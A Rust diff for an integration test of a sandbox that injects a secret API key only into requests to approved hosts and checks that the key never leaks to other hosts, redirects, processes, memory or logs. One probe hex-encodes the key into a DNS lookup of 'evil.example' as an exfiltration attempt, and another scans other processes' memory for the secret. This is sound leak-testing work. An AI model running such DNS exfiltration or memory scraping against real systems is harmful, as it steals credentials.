@@ -1,20 +1,28 @@
-//! Programs in a sandbox, none of them changed, ask a host that wants a key, and are answered: sandboxd puts
-//! it into their requests, to that host and those paths alone. What they say in its place does not arrive; the
-//! key is in none of their variables, arguments and files, not in what the host says back, and not in what
-//! sandboxd says of the run.
+//! A key that is put into requests goes to the host, path and method that it is for, in the place of whatever the
+//! command wrote there, and to nobody else: no other host, no other path, not where a redirect leads, no host
+//! whose certificate this one does not trust. It is looked for in every process inside, its memory, its files, in
+//! what the host says back and in all that sandboxd says and writes, and is not there.
 
 use anyhow::{Context as _, Result, ensure};
+use sandboxd_integration::hosts::Serving;
 use sandboxd_integration::world::{IP, World};
-use sandboxd_integration::{Case, Need, Outside};
-use std::io::{BufRead as _, BufReader};
+use sandboxd_integration::{Case, Inside, Need, Outside, Run, Sandbox};
+use serde_json::Value;
+use std::fs;
+use std::io::{BufRead as _, BufReader, Read as _, Seek as _, SeekFrom};
 use std::net::Ipv4Addr;
 use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 
-const HOST: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/hosts/keys.py");
 const SOMEWHERE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
-const KEY: &str = "sk-case-7Jb0qk3XwZ";
+/// Whoever is here has a certificate of an authority that nobody trusts.
+const STRANGE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 8);
+/// With a character that a query cannot have as it is.
+const KEY: &str = "sk-hunter2-0123456789/abcdefgh";
+const ESCAPED: &str = "sk-hunter2-0123456789%2Fabcdefgh";
+/// In base64, after `me:`.
+const BASIC: &str = "c2staHVudGVyMi0wMTIzNDU2Nzg5L2FiY2RlZmdo";
 
 pub(crate) const CASE: Case = Case {
     rows: &["N17"],
@@ -26,96 +34,359 @@ pub(crate) const CASE: Case = Case {
         Need::Program("/usr/bin/node"),
         Need::Program("/usr/bin/python3"),
     ],
-    seconds: 180,
+    seconds: 240,
     outside,
+    probes: &[("look", look)],
     ..Case::NEW
 };
 
-/// Each of them, and what it does.
-const PROGRAMS: [(&str, &str); 5] = [
-    ("curl", "curl -sS https://model.example/v1/x"),
-    ("curl with a key of its own", "curl -sS -H 'Authorization: Bearer mine' https://model.example/v1/x"),
-    ("wget", "wget -qO- --ca-certificate=\"$SSL_CERT_FILE\" https://model.example/v1/x"),
+/// Each, what it does, and what it is told of the key; all of them are answered with `welcome`.
+const PROGRAMS: [(&str, &str, &str); 9] = [
+    ("curl", "curl -sSf https://api.example/v1/tidings", "Bearer ****"),
+    (
+        "curl with a key of its own",
+        "curl -sSf -H 'Authorization: Bearer mine' -H 'AUTHORIZATION: twice' https://api.example/v1/tidings",
+        "Bearer ****",
+    ),
+    (
+        "wget",
+        "wget -qO- --ca-certificate=\"$SSL_CERT_FILE\" https://api.example/v1/tidings",
+        "Bearer ****",
+    ),
     (
         "Python",
-        "python3 -c 'import urllib.request as r; print(r.urlopen(\"https://model.example/v1/x\").read())'",
+        "python3 -c 'import urllib.request as r; print(r.urlopen(\"https://api.example/v1/tidings\").read())'",
+        "Bearer ****",
     ),
-    ("Node", "node -e 'fetch(\"https://model.example/v1/x\").then(r => r.text()).then(console.log)'"),
+    (
+        "Python with a key of its own",
+        "python3 -c 'import urllib.request as r; print(r.urlopen(r.Request(\"https://api.example/v1/tidings\", b\"{}\", {\"authorization\": \"Bearer x\"})).read())'",
+        "Bearer ****",
+    ),
+    (
+        "Node",
+        "node -e 'fetch(\"https://api.example/v1/tidings\").then(r => r.text()).then(console.log)'",
+        "Bearer ****",
+    ),
+    (
+        "Node with a key of its own",
+        "node -e 'fetch(\"https://api.example/v1/tidings\", {headers: {authorization: \"Bearer x\"}}).then(r => r.text()).then(console.log)'",
+        "Bearer ****",
+    ),
+    ("a query", "curl -sSf 'https://query.example/v1/tidings?a=1&%6Bey=mine'", "?a=1&key=****"),
+    ("a password", "curl -sSf -u mine:mine https://git.example/v1/tidings", "****"),
+];
+
+/// What does not get it, and the path that is asked for all the same.
+const NOT_THIS: [(&str, &str, &str); 5] = [
+    ("another host", "curl -sS https://other.example/v1/tidings", "/v1/tidings"),
+    ("another path", "curl -sS https://api.example/v2/tidings", "/v2/tidings"),
+    ("a path that leads to another", "curl -sS --path-as-is https://api.example/v1/../v2", "/v1/../v2"),
+    ("another method", "curl -sS -X DELETE https://query.example/v1/tidings", "/v1/tidings"),
+    ("a redirect", "curl -sSL https://api.example/v1/away", "/v1/tidings"),
 ];
 
 fn outside(outside: &Outside) -> Result<()> {
-    let mut world = World::enter(outside, &[("model.example", SOMEWHERE)])?;
-    let serving = Serving::begin(&outside.dir().join("host"))?;
-    world.trust(outside, &serving.folder.join("ca.pem"))?;
-    let key = outside.dir().join("model.key");
-    std::fs::write(&key, format!("{KEY}\n"))?;
-    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600))?;
+    let here = ["api", "other", "query", "git", "unnamed"].map(|name| (name, SOMEWHERE));
+    let all: Vec<(String, Ipv4Addr)> = here
+        .into_iter()
+        .chain([("strange", STRANGE)])
+        .map(|(name, address)| (format!("{name}.example"), address))
+        .collect();
+    let all: Vec<_> = all.iter().map(|(name, address)| (name.as_str(), *address)).collect();
+    let mut world = World::enter(outside, &all)?;
+    let hosts = Hosts::begin(
+        outside.dir().join("hosts"),
+        SOMEWHERE,
+        &["api.example", "other.example", "query.example", "git.example"],
+    )?;
+    let strange = Hosts::begin(outside.dir().join("strange"), STRANGE, &["strange.example"])?;
+    world.trust(outside, &hosts.folder.join("ca.pem"))?;
     let workspace = outside.workspace()?;
-    let profile = format!(
-        "extends = [\"builtin:coding-agent\"]\n[network]\nmode = \"egress\"\n\
-         egress = [{{ to = \"model.example:443\", within = [\"203.0.113.7/32\"] }}]\n\
-         [secrets.model]\nfrom = \"file:{}\"\n\
-         inject = {{ host = \"model.example\", method = \"GET\", path = \"/v1/*\", header = \"authorization\", format = \"Bearer {{}}\" }}\n",
-        key.display()
-    );
-    let run = |line: &str| outside.sandbox(&profile).cwd(&workspace).command(&["sh", "-c", line]).run();
-    for (name, line) in PROGRAMS {
-        let run = run(line)?;
+    // What the search has to find.
+    outside.file("ws/answer", "authorization: Bearer ****")?;
+    let key = outside.dir().join("key");
+    fs::write(&key, format!("{KEY}\n"))?;
+    fs::set_permissions(&key, fs::Permissions::from_mode(0o400))?;
+    let profile = profile(&key);
+    let sandbox = || outside.sandbox(&profile).cwd(&workspace);
+    let says = |line: &str| sandbox().command(&["sh", "-c", line]).run();
+    for (name, line, told) in PROGRAMS {
+        let run = says(line)?;
         run.exited(0).with_context(|| name)?;
-        ensure!(run.stdout.contains("tidings"), "{name} got {:?}, {}", run.stdout, run.stderr);
-        let said = format!("{}{}", run.stdout, run.stderr);
-        ensure!(!said.contains(KEY) && said.contains("Bearer ****"), "{name} was told: {said}");
+        is_welcome(&run, told).with_context(|| name)?;
     }
-    // Where it is not for, it does not go.
-    let other = run("curl -sS https://model.example/v2; curl -sS --path-as-is https://model.example/v1/../v2")?;
-    ensure!(!other.stdout.contains("tidings"), "another path got the key: {}", other.stdout);
-    let told = std::fs::read_to_string(serving.folder.join("told"))?;
-    ensure!(!told.contains("mine"), "what the program put there arrived: {told}");
-    for line in told.lines() {
-        let own = line.starts_with("/v1/x ");
-        ensure!(line.contains(KEY) == own, "the host was told {line:?}");
+    for asked in hosts.asked()? {
+        ensure!(asked.keys == 1 && asked.authorization <= 1, "asked with {asked:?}");
+        for own in ["mine", "twice", "Bearer x"] {
+            ensure!(!asked.line.contains(own), "what the program put there arrived: {asked:?}");
+        }
     }
-    looked_for(&run(
-        "env; cat /proc/*/environ /proc/*/cmdline; cat /run/sandboxd/ca.pem; find / -xdev -type f -size -64k -exec cat {} + ; mount",
-    )?)
+    for (name, line, path) in NOT_THIS {
+        hosts.forget()?;
+        let run = says(line)?;
+        run.exited(0).with_context(|| name)?;
+        ensure!(run.stdout.contains("who are you?"), "{name} got {:?}, {}", run.stdout, run.stderr);
+        let last = hosts.asked()?.pop().context("nobody asked")?;
+        ensure!(last.path == path, "{name} asked for {last:?}");
+        ensure!(last.keys == 0, "{name} got the key: {last:?}");
+    }
+    for name in ["unnamed", "strange"] {
+        hosts.forget()?;
+        let run = says(&format!("curl -sS -o /dev/null -w '%{{http_code}}' https://{name}.example/v1/x"))?;
+        ensure!(run.stdout == "502", "{name} answered {}, {}", run.stdout, run.stderr);
+        let asked = [hosts.asked()?, strange.asked()?].concat();
+        ensure!(asked.is_empty(), "{name} was asked: {asked:?}");
+    }
+    is_not_inside(&sandbox)
 }
 
-/// It is nowhere inside, and nobody says it.
-fn looked_for(run: &sandboxd_integration::Run) -> Result<()> {
+/// It is answered, and the key is covered in what it is told.
+fn is_welcome(run: &Run, told: &str) -> Result<()> {
     let said = format!("{}{}", run.stdout, run.stderr);
-    ensure!(said.contains("BEGIN CERTIFICATE"), "nobody is trusted inside: {}", run.stderr);
-    ensure!(!said.contains(KEY), "the key is inside");
-    ensure!(!said.contains("PRIVATE KEY"), "the key of an authority is inside");
+    ensure!(run.stdout.contains("welcome") && said.contains(told), "it got {said}");
+    for key in [KEY, ESCAPED, BASIC] {
+        ensure!(!said.contains(key), "it was told: {said}");
+    }
     Ok(())
 }
 
-/// The host.
-struct Serving {
-    child: Child,
+fn profile(key: &Path) -> String {
+    let near = ["api", "other", "query", "git", "unnamed", "strange"].map(|name| {
+        format!("{{ to = \"{name}.example:443\", within = [\"203.0.113.0/24\"] }}")
+    });
+    let header = "header = \"Authorization\", format = \"Bearer {}\"";
+    format!(
+        "extends = [\"builtin:coding-agent\"]\n[network]\nmode = \"egress\"\negress = [{}]\n\
+         [secrets.model]\nfrom = \"file:{}\"\ninject = [\n\
+         {{ host = \"api.example\", path = \"/v1/*\", {header} }},\n\
+         {{ host = \"unnamed.example\", {header} }},\n\
+         {{ host = \"strange.example\", {header} }},\n\
+         {{ host = \"query.example\", method = \"GET\", query = \"key\" }},\n\
+         {{ host = \"git.example\", basic = \"me\" }},\n]\n",
+        near.join(", "),
+        key.display(),
+    )
+}
+
+/// Neither while it is used, nor in what is left.
+fn is_not_inside<'a>(sandbox: &dyn Fn() -> Sandbox<'a>) -> Result<()> {
+    let run = sandbox().probe("look", &[]).run()?;
+    run.ran()?;
+    ensure!(run.fact("answered")?.contains("authorization: Bearer ****"), "nothing came back");
+    for fact in ["answered", "found"] {
+        ensure!(!run.fact(fact)?.contains("hunter2"), "{fact}: {}", run.fact(fact)?);
+    }
+    ensure!(run.fact("found")?.is_empty(), "found in {}", run.fact("found")?);
+    let count = |fact| -> Result<u32> { Ok(run.fact(fact)?.parse()?) };
+    ensure!(count("files")? > 20, "hardly any file was searched");
+    ensure!(count("memories")? > 0, "no memory was searched");
+    for place in ["/mem", "/ws/answer"] {
+        ensure!(run.fact("answers")?.contains(place), "what is in {place} is not found");
+    }
+    ensure!(run.fact("trusted")?.contains("BEGIN CERTIFICATE"), "nobody is trusted inside");
+    let receipt = fs::read_to_string(run.folder().join("receipt"))?;
+    ensure!(receipt.contains("model") && !receipt.contains("hunter2"), "{receipt}");
+    let plan = sandbox().verb("plan").option("--json");
+    let plan = plan.command(&["/bin/true"]).run()?;
+    plan.exited(0)?;
+    ensure!(plan.stdout.contains("authorization") && !plan.stdout.contains("hunter2"), "the plan");
+    // A name that has it, in hexadecimal: what is said of it at the end has not.
+    let hex: String = KEY.bytes().map(|byte| format!("{byte:02x}")).collect();
+    let asks = format!("getent hosts {hex}.evil.example || true");
+    let run = sandbox().command(&["sh", "-c", &asks]).run()?;
+    run.exited(0)?;
+    ensure!(run.stderr.contains("«secret:model»"), "{}", run.stderr);
+    let grep = Command::new("/usr/bin/grep")
+        .args(["-rlsF", "hunter2-0123456789", "/run/sandboxd", "/dev/shm", "/var/lib/sandboxd"])
+        .output()?;
+    let found = String::from_utf8(grep.stdout)?;
+    ensure!(found.is_empty(), "{found} has it");
+    Ok(())
+}
+
+/// What a host was asked.
+#[derive(Debug, Clone)]
+struct Asked {
+    line: String,
+    path: String,
+    /// How often the key was in it.
+    keys: usize,
+    /// Fields of the place that it goes to.
+    authorization: usize,
+}
+
+/// The hosts at an address.
+struct Hosts {
+    _serving: Serving,
     folder: PathBuf,
 }
 
-impl Serving {
-    fn begin(folder: &Path) -> Result<Self> {
-        let mut child = Command::new("/usr/bin/python3")
-            .args([HOST.as_ref(), folder.as_os_str()])
-            .args([&SOMEWHERE.to_string(), "model.example", KEY])
-            .stdout(Stdio::piped())
-            .spawn()
-            .context("the host")?;
-        let stdout = child.stdout.take().context("no output")?;
-        let serving = Self { child, folder: folder.to_owned() };
-        let mut line = String::new();
-        BufReader::new(stdout).read_line(&mut line)?;
-        ensure!(line == "ready\n", "the host said {line:?}");
-        Ok(serving)
+impl Hosts {
+    fn begin(folder: PathBuf, address: Ipv4Addr, names: &[&str]) -> Result<Self> {
+        let address = address.to_string();
+        let own = [folder.as_os_str(), address.as_ref(), KEY.as_ref()];
+        let words: Vec<_> = own.into_iter().chain(names.iter().map(AsRef::as_ref)).collect();
+        let serving = Serving::begin("wants_a_key.py", &words)?.ready()?;
+        let hosts = Self { _serving: serving, folder };
+        hosts.forget()?;
+        Ok(hosts)
+    }
+
+    fn forget(&self) -> Result<()> {
+        Ok(fs::write(self.folder.join("asked"), "")?)
+    }
+
+    fn asked(&self) -> Result<Vec<Asked>> {
+        let text = fs::read_to_string(self.folder.join("asked"))?;
+        let asked = text.lines().map(|line| {
+            let asked: Value = serde_json::from_str(line)?;
+            let head = asked.get("head").and_then(Value::as_array).context("no head")?;
+            let is_it = |field: &&Value| field.get(0).and_then(Value::as_str) == Some("authorization");
+            let path = asked.get("path").and_then(Value::as_str).context("no path")?;
+            Ok(Asked {
+                path: path.to_owned(),
+                keys: [KEY, ESCAPED, BASIC].iter().map(|key| line.matches(key).count()).sum(),
+                authorization: head.iter().filter(is_it).count(),
+                line: line.to_owned(),
+            })
+        });
+        asked.collect()
     }
 }
 
-impl Drop for Serving {
-    fn drop(&mut self) {
-        // One that is gone already is what is wanted.
-        self.child.kill().ok();
-        self.child.wait().ok();
+/// Uses the key, has the host send back what it was asked with, and looks for it everywhere while the program
+/// that got that lives.
+fn look(inside: &Inside) -> Result<()> {
+    let (mut client, answered) = client()?;
+    inside.fact("answered", &answered);
+    let mut search = Search::default();
+    for process in fs::read_dir("/proc")?.flatten().map(|entry| entry.path()) {
+        for name in ["environ", "cmdline", "maps", "mountinfo", "status", "stack"] {
+            search.file(&process.join(name));
+        }
+        // Its own has the words that are looked for.
+        let number: Option<u32> = process.file_name().and_then(|name| name.to_str()?.parse().ok());
+        if number.is_some_and(|number| number != std::process::id()) {
+            search.memory(&process);
+        }
+    }
+    // The root itself is not listed; what is mounted below it is.
+    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
+    let mounts = mounts.lines().filter_map(|line| line.split(' ').nth(4));
+    for path in mounts.chain(["/run", "/tmp", "/etc", "/dev/shm", "/home"]).map(Path::new) {
+        search.mount(path);
+    }
+    drop(client.stdin.take());
+    ensure!(client.wait()?.success(), "the client failed");
+    inside.fact("found", &search.found.join(" "));
+    inside.fact("answers", &search.answers.join(" "));
+    inside.fact("files", &search.files.to_string());
+    inside.fact("memories", &search.memories.to_string());
+    inside.fact("trusted", &fs::read_to_string("/run/sandboxd/ca.pem")?.replace('\n', " "));
+    Ok(())
+}
+
+/// A program that asked, has its answer, and lives until its input ends.
+fn client() -> Result<(Child, String)> {
+    const ASKS: &str = "import sys, urllib.request as r\n\
+        got = r.urlopen('https://api.example/v1/tidings').read()\n\
+        print(got, flush=True)\nsys.stdin.read()\n";
+    let mut client = Command::new("python3")
+        .args(["-c", ASKS])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .context("a client")?;
+    let mut answered = String::new();
+    BufReader::new(client.stdout.take().context("no output")?).read_line(&mut answered)?;
+    Ok((client, answered))
+}
+
+/// What was looked at, and where it was found.
+#[derive(Default)]
+struct Search {
+    found: Vec<String>,
+    files: u32,
+    /// Ranges of memory.
+    memories: u32,
+    /// Where that is what the host said.
+    answers: Vec<String>,
+}
+
+/// Both halves together, so that this program's own words are no find.
+fn has(bytes: &[u8], halves: [&str; 2]) -> bool {
+    let wanted = halves.concat();
+    let first = wanted.as_bytes().first();
+    let begins = bytes.iter().enumerate().filter(|(_, byte)| Some(*byte) == first);
+    let mut rests = begins.filter_map(|(at, _)| bytes.get(at..));
+    rests.any(|rest| rest.starts_with(wanted.as_bytes()))
+}
+
+impl Search {
+    fn judge(&mut self, path: &Path, bytes: &[u8]) {
+        if has(bytes, ["hunt", "er2-01234"]) {
+            self.found.push(path.display().to_string());
+        }
+        if has(bytes, ["Bear", "er ****"]) {
+            self.answers.push(path.display().to_string());
+        }
+    }
+
+    fn file(&mut self, path: &Path) {
+        let Ok(bytes) = fs::read(path) else { return };
+        self.files += 1;
+        self.judge(path, &bytes);
+        if has(&bytes, ["PRIVATE", " KEY-----"]) {
+            self.found.push(path.display().to_string());
+        }
+    }
+
+    /// What can be read of another process's memory.
+    fn memory(&mut self, process: &Path) {
+        let Ok(maps) = fs::read_to_string(process.join("maps")) else { return };
+        let Ok(mut file) = fs::File::open(process.join("mem")) else { return };
+        for line in maps.lines() {
+            let range = line.split(' ').next().and_then(|range| range.split_once('-'));
+            let number = |text| u64::from_str_radix(text, 16).ok();
+            let Some((Some(from), Some(to))) = range.map(|(from, to)| (number(from), number(to)))
+            else {
+                continue;
+            };
+            let mut bytes = Vec::new();
+            if file.seek(SeekFrom::Start(from)).is_ok() {
+                // What cannot be read to its end is read as far as it goes.
+                file.by_ref().take(to.saturating_sub(from).min(64 << 20)).read_to_end(&mut bytes).ok();
+            }
+            self.memories += u32::from(!bytes.is_empty());
+            self.judge(&process.join("mem"), &bytes);
+        }
+    }
+
+    /// All but the kernel's files and the machine's programs, which nobody inside writes.
+    fn mount(&mut self, path: &Path) {
+        const OTHERS: [&str; 9] = [
+            "/proc",
+            "/sys",
+            "/usr",
+            "/opt",
+            "/probe",
+            "/root",
+            "/home/agent/.cargo",
+            "/home/agent/.rustup",
+            "/home/agent/go",
+        ];
+        if OTHERS.iter().any(|one| path.starts_with(one)) {
+            return;
+        }
+        if path.is_file() {
+            return self.file(path);
+        }
+        for entry in fs::read_dir(path).into_iter().flatten().flatten() {
+            // No link is followed, and no pipe or device opened.
+            if entry.file_type().is_ok_and(|kind| kind.is_dir() || kind.is_file()) {
+                self.mount(&entry.path());
+            }
+        }
     }
 }
